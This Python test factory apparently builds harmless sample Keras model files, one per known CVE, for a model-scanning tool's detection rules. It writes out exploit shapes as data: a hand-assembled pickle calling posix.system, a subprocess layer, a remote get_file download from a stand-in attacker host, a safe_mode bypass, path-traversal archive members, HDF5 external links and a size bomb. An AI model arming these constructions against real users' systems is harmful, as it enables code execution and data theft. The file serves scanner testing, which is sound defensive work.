"""One harmless sample per Keras CVE, made by editing real Keras 3 files.

``build_cve_corpus(outdir)`` saves a small Dense model (and a Lambda model) with the real
Keras 3 library, then edits the saved ``config.json`` / ``.h5`` attributes / inner
``model.weights.h5`` into the shape each advisory describes (keras-threats.md §3.2).  Every
payload only echoes ``MODELXRAY_MARKER`` into ``/tmp/modelxray_marker_<name>`` or names a path
or URL that does not exist; nothing here loads, unpickles or unmarshals a sample, and no
network access is needed.

Returns ``{name: CveSample}``; ``base`` samples are the unedited real files.
"""

from __future__ import annotations

import base64
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.factories.keras_models import (
    build_dense_model,
    build_lambda_model,
    derive_h5,
    derive_keras_zip,
    host_blob,
    marker_command,
    payload_source,
    rewrite_zip,
    save_model,
    swap_lambda,
    walk_dicts,
)


@dataclass(frozen=True)
class CveSample:
    path: Path
    cve: str | None  # None for the unedited real files
    rules: tuple[str, ...]  # rule IDs that must report it
    note: str


def _layers(tree: Any) -> list[Any]:
    layers = tree["config"]["layers"]
    assert isinstance(layers, list)
    return layers


def _add_layer(layer: dict[str, Any]) -> Any:
    def edit(tree: Any) -> int:
        _layers(tree).append(layer)
        return 1

    return edit


def _lambda_layer(name: str, function: dict[str, Any], arguments: dict[str, Any]) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": name, "trainable": True, "function": function, "arguments": arguments},
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }


def _fn(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def harmless_pickle(name: str) -> bytes:
    """Protocol-2 pickle calling ``posix.system(<echo marker>)``, written opcode by opcode
    (never produced by pickling a live object, never unpickled)."""
    cmd = marker_command(name).encode("utf-8")
    return (
        b"\x80\x02cposix\nsystem\nq\x00"
        + b"X"
        + len(cmd).to_bytes(4, "little")
        + cmd
        + b"\x85q\x01Rq\x02."
    )


def _edit_inner_weights(src: Path, dst: Path, work: Path, edit: Any) -> None:
    """Copy a .keras archive, editing its model.weights.h5 with h5py."""
    import h5py

    inner = work / "model.weights.h5"
    with zipfile.ZipFile(src) as zf:
        inner.write_bytes(zf.read("model.weights.h5"))
    with h5py.File(inner, "a") as f:
        edit(f)
    rewrite_zip(src, dst, {"model.weights.h5": inner.read_bytes()})
    inner.unlink()


def _first_dataset(f: Any) -> str:
    import h5py

    found: list[str] = []
    f.visititems(lambda n, o: found.append(n) if isinstance(o, h5py.Dataset) else None)
    return found[0]


def build_cve_corpus(outdir: Path) -> dict[str, CveSample]:
    import h5py
    import numpy as np

    outdir.mkdir(parents=True, exist_ok=True)
    out: dict[str, CveSample] = {}
    dense = build_dense_model()
    base_keras = outdir / "base_dense.keras"
    base_h5 = outdir / "base_dense.h5"
    base_weights = outdir / "base_dense.weights.h5"
    save_model(dense, base_keras)
    save_model(dense, base_h5)
    dense.save_weights(str(base_weights))
    lam = build_lambda_model("toplevel")
    base_lambda_h5 = outdir / "base_lambda.h5"
    save_model(lam, base_lambda_h5)
    for name, p in (
        ("base_keras", base_keras),
        ("base_h5", base_h5),
        ("base_weights_h5", base_weights),
    ):
        out[name] = CveSample(p, None, (), "unedited real Keras 3 file")

    def keras(name: str, cve: str, rules: tuple[str, ...], note: str, edit: Any) -> None:
        dst = outdir / f"{name}.keras"
        derive_keras_zip(base_keras, dst, edit)
        out[name] = CveSample(dst, cve, rules, note)

    keras(
        "cve_2025_1550_keras",
        "CVE-2025-1550",
        ("MX-KERAS-201",),
        "functional-style layer {'module': 'subprocess', 'class_name': 'run'} with inbound args",
        _add_layer(
            {
                "module": "subprocess",
                "class_name": "run",
                "config": {},
                "registered_name": None,
                "name": "pwn",
                "inbound_nodes": [
                    {"args": [["sh", "-c", marker_command("cve_2025_1550_keras")]], "kwargs": {}}
                ],
            }
        ),
    )
    keras(
        "cve_2025_8747_keras",
        "CVE-2025-8747",
        ("MX-KERAS-204", "MX-KERAS-206"),
        "Lambda function keras.utils.get_file with an origin URL (never contacted)",
        _add_layer(
            _lambda_layer(
                "dl",
                _fn("keras.utils", "get_file"),
                {"origin": "https://attacker.invalid/payload.keras", "cache_dir": "/tmp/mx_cache"},
            )
        ),
    )

    def two_stage(tree: Any) -> int:
        _layers(tree).append(
            _lambda_layer(
                "off",
                _fn("keras.src.backend.common.global_state", "set_global_attribute"),
                {"value": False},
            )
        )
        _layers(tree)[-1]["inbound_nodes"] = [
            {"args": [], "kwargs": {"inputs": "safe_mode_saving"}}
        ]
        _layers(tree).append(
            _lambda_layer(
                "unsafe_deserialization", _fn("keras.models", "load_model"), {"safe_mode": False}
            )
        )
        _layers(tree)[-1]["inbound_nodes"] = [
            {"args": [], "kwargs": {"inputs": "/tmp/modelxray_marker_cve_2025_9906.keras"}}
        ]
        return 2

    keras(
        "cve_2025_9906_keras",
        "CVE-2025-9906",
        ("MX-KERAS-204",),
        "set_global_attribute('safe_mode_saving', False) then load_model(path, safe_mode=False)",
        two_stage,
    )
    wrapper_name = "cve_2025_49655_keras"
    keras(
        wrapper_name,
        "CVE-2025-49655",
        ("MX-KERAS-207",),
        "TorchModuleWrapper whose module is base64 of a pickle calling posix.system(echo marker)",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "TorchModuleWrapper",
                "registered_name": None,
                "config": {
                    "name": "torch_module_wrapper",
                    "trainable": True,
                    "output_shape": None,
                    "module": base64.b64encode(harmless_pickle(wrapper_name)).decode("ascii"),
                },
            }
        ),
    )
    keras(
        "cve_2025_12058_keras",
        "CVE-2025-12058",
        ("MX-KERAS-209",),
        "StringLookup vocabulary = an absolute file path",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "StringLookup",
                "registered_name": None,
                "config": {
                    "name": "lk",
                    "vocabulary": "/tmp/modelxray_marker_vocab.txt",
                    "max_tokens": None,
                    "num_oov_indices": 1,
                },
            }
        ),
    )
    keras(
        "cve_2026_1462_keras",
        "CVE-2026-1462",
        ("MX-KERAS-208",),
        "TFSMLayer filepath = an absolute path to an attacker SavedModel",
        _add_layer(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "registered_name": None,
                "config": {
                    "name": "tfsm",
                    "trainable": True,
                    "filepath": "/tmp/modelxray_marker_savedmodel",
                    "call_endpoint": "serve",
                    "call_training_endpoint": None,
                },
            }
        ),
    )

    # CVE-2026-12479: a member that climbs out of the extraction directory, and a layer name
    # that climbs out of the asset directory.
    name = "cve_2026_12479_keras"
    dst = outdir / f"{name}.keras"
    shutil.copy(base_keras, dst)
    with zipfile.ZipFile(dst, "a") as zf:
        zf.writestr("assets/../../../tmp/modelxray_marker_cve_2026_12479", b"MODELXRAY_MARKER\n")
    out[name] = CveSample(dst, "CVE-2026-12479", ("MX-KERAS-306",), "member assets/../../../tmp/…")

    def climb(tree: Any) -> int:
        for _, node in walk_dicts(tree):
            if node.get("class_name") == "Dense":
                node["config"]["name"] = "../../../tmp/modelxray_marker_layer"
                return 1
        return 0

    keras(
        "cve_2026_12479_layer_keras",
        "CVE-2026-12479",
        ("MX-KERAS-306",),
        "Dense layer named ../../../tmp/… (asset paths derive from layer names)",
        climb,
    )

    # CVE-2025-9905: a Keras 3 legacy .h5 whose Lambda code calls os.system(echo marker).
    name = "cve_2025_9905_h5"
    dst = outdir / f"{name}.h5"
    derive_h5(base_lambda_h5, dst, swap_lambda(host_blob(payload_source("import_system", name))))
    out[name] = CveSample(dst, "CVE-2025-9905", ("MX-KERAS-101",), "Keras 3 .h5 Lambda payload")

    # CVE-2026-1669: external link + external storage inside model.weights.h5 of a .keras ...
    def external(f: Any) -> None:
        target = _first_dataset(f)
        parent, leaf = target.rsplit("/", 1) if "/" in target else ("", target)
        group = f[parent] if parent else f
        del group[leaf]
        group[leaf] = h5py.ExternalLink("/tmp/modelxray_marker_secret.h5", "/data")
        group.create_dataset(
            "leak", shape=(16,), dtype="u1", external=[("/tmp/modelxray_marker_passwd", 0, 16)]
        )

    name = "cve_2026_1669_keras"
    dst = outdir / f"{name}.keras"
    _edit_inner_weights(base_keras, dst, outdir, external)
    out[name] = CveSample(
        dst,
        "CVE-2026-1669",
        ("MX-KERAS-301", "MX-KERAS-303"),
        "model.weights.h5: a weight replaced by an ExternalLink, plus an external-storage dataset",
    )

    # ... and a legacy .h5 whose weights use external storage and a virtual dataset.
    name = "cve_2026_1669_h5"
    dst = outdir / f"{name}.h5"
    shutil.copy(base_h5, dst)
    with h5py.File(dst, "a") as f:
        g = f.require_group("model_weights")
        g.create_dataset(
            "leak", shape=(8,), dtype="u1", external=[("/tmp/modelxray_marker_hosts", 0, 8)]
        )
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource("/tmp/modelxray_marker_other.h5", "data", shape=(4,))
        g.create_virtual_dataset("virtual", layout)
    out[name] = CveSample(
        dst,
        "CVE-2026-1669",
        ("MX-KERAS-303", "MX-KERAS-304"),
        "legacy .h5 with external storage and a virtual dataset",
    )

    # CVE-2026-0897: a weights dataset declaring 8 PB that stores nothing.
    name = "cve_2026_0897_h5"
    dst = outdir / f"{name}.h5"
    shutil.copy(base_weights, dst)
    with h5py.File(dst, "a") as f:
        target = _first_dataset(f)
        parent = target.rsplit("/", 1)[0] if "/" in target else ""
        group = f[parent] if parent else f
        group.create_dataset("bomb", shape=(10**9, 10**6), dtype=np.float64, chunks=(1, 1))
    out[name] = CveSample(dst, "CVE-2026-0897", ("MX-KERAS-305",), "declared shape 1e9 x 1e6 f8")

    return out
